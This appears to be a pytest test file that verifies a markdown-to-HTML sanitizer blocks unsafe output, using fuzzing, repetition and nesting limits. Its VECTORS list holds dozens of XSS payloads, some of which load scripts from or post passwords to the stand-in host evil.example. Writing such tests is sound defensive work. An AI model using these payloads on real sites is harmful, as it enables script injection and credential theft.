"""Markdown from people and vendors: what it may become, and what it never becomes."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incidents.lib import markdown
from incidents.lib.markdown import ATTRIBUTES, OUR_IMAGE, TAGS, plain, render

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p onmouseover=alert(1) id=x class=btn>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<table background='javascript:alert(1)'><tr><td colspan=1000000>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](ms-msdt:/id)",
    "[x](intent://scan/#Intent;end)",
    "[x](blob:https://example.org/1)",
    "[x](view-source:http://example.org)",
    "[x](//evil.example/path)",
    "[x](/\\evil.example)",
    "[x](</\t/evil.example>)",
    '[x](/%09/evil.example "a" onclick=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](http://example.org "\\" onmouseover=alert(1) x=\\"")',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](http://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/media/a/../../admin/)",
    "![x](/media/a/abc?next=//evil.example)",
    '![" onerror="alert(1)](http://evil.example/x.png)',
    "[![x](http://evil.example/x.png)](javascript:alert(1))",
    '```" onload="alert(1)\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|:-:|-|\n| <img src=x onerror=alert(1)> | 2 |",
    "# <script>alert(1)</script> {onclick=alert(1)}",
    "> <iframe src=//evil.example>",
    "~~<script>alert(1)</script>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>\ud800",
    "javascript:alert(1) www.evil.example javascript://x.example/%0aalert(1)",
]


class Inspector(HTMLParser):
    """Reads HTML as a browser would and collects all that is not allowed."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.wrong = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()):
                self.wrong.append((tag, name))
            if name == "href" and not is_harmless(value or ""):
                self.wrong.append((tag, name, value))
            if name == "src" and not OUR_IMAGE.fullmatch(value or ""):
                self.wrong.append((tag, name, value))

    def handle_comment(self, data):
        self.wrong.append(("comment", data))

    handle_decl = unknown_decl = handle_pi = handle_comment


def is_harmless(href):
    """A web address, a mail address, or a path on our own site."""
    bare = "".join(href.split())
    if bare.startswith(("//", "/\\")):
        return False
    scheme = re.match("[A-Za-z][A-Za-z0-9+.-]*:", bare)  # anything else is a path on our own site
    return scheme is None or scheme.group().lower() in {"http:", "https:", "mailto:"}


def wrongs(text):
    inspector = Inspector()
    inspector.feed(render(text))
    inspector.close()
    return inspector.wrong


@pytest.mark.parametrize("text", VECTORS)
def test_nothing_that_runs_or_calls_home_comes_out(text):
    assert wrongs(text) == []


@pytest.mark.parametrize("text", VECTORS)
def test_nh3_alone_holds_when_the_parser_lets_html_through(text):
    inspector = Inspector()
    inspector.feed(markdown.clean(text))
    inspector.close()
    assert inspector.wrong == []


PIECES = st.sampled_from(
    [*"<>\"'&;:/\\()[]!`*_~|#\n\t -=", "javascript:", "data:", "on", "src=", "href=", "<img ", "<a ", "](", "![", "//", "&#x6A;", "http://a.b", "\x00"]
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=200), st.lists(PIECES, max_size=40).map("".join)))
def test_no_text_at_all_breaks_out(text):
    assert wrongs(text) == []


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_cleaning_twice_changes_nothing(text):
    once = render(text)
    assert markdown.clean(once) == once


def test_what_people_write_is_kept():
    html = render("# Title\n\n**bold** _em_ ~~gone~~ `code`\n\n3. three\n4. four\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    for part in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>em</em>", "<s>gone</s>", "<code>code</code>", '<ol start="3">', "<blockquote>", "<td>1</td>"):
        assert part in html


def test_links_keep_their_address_and_tell_nobody():
    assert render("[x](https://example.org/a)") == '<p><a href="https://example.org/a" rel="noopener noreferrer nofollow ugc">x</a></p>\n'
    assert 'href="http://example.org/b"' in render("see http://example.org/b.")
    assert 'href="/incidents/INC-1/"' in render("[x](/incidents/INC-1/)")
    assert 'href="mailto:a@example.org"' in render("[x](mailto:a@example.org)")


def test_a_remote_image_becomes_a_link():
    assert render("![graph](https://example.org/g.png)") == '<p><a href="https://example.org/g.png" rel="noopener noreferrer nofollow ugc">graph</a></p>\n'
    assert ">https://example.org/g.png</a>" in render("![](https://example.org/g.png)")


def test_our_own_image_stays():
    assert 'src="/media/a/0f-1a.png"' in render("![graph](/media/a/0f-1a.png)")


def test_typography_is_left_alone():
    assert plain('"a" -- ... (c)') == '"a" -- ... (c)'


def test_long_texts_are_cut():
    assert len(render("x" * 200_000)) < markdown.LIMIT + 100


@pytest.mark.parametrize(
    "text", ["[" * 100_000, ">" * 100_000, "- " * 50_000, "*a_ " * 25_000, "![" * 50_000, "`" * 99_999, "<a " * 33_000, "|a" * 50_000 + "\n" + "|-" * 50_000]
)
def test_hostile_repetition_ends(text):
    began = time.monotonic()
    render(text)
    assert time.monotonic() - began < 60  # a runaway takes minutes; the machine's load must not decide


def test_nesting_is_bounded():
    assert render("> " * 500 + "deep").count("<blockquote>") <= 20


def test_plain_is_words_on_one_line():
    text = "# Impact\n\n**All** checkouts & [carts](http://x.example) failed <b>now</b>.\n\n- one\n- two\n\n| a | b |\n|-|-|\n| 1 | 2 |"
    assert plain(text) == "Impact All checkouts & carts failed <b>now</b>. one two a b 1 2"
    assert plain("") == ""
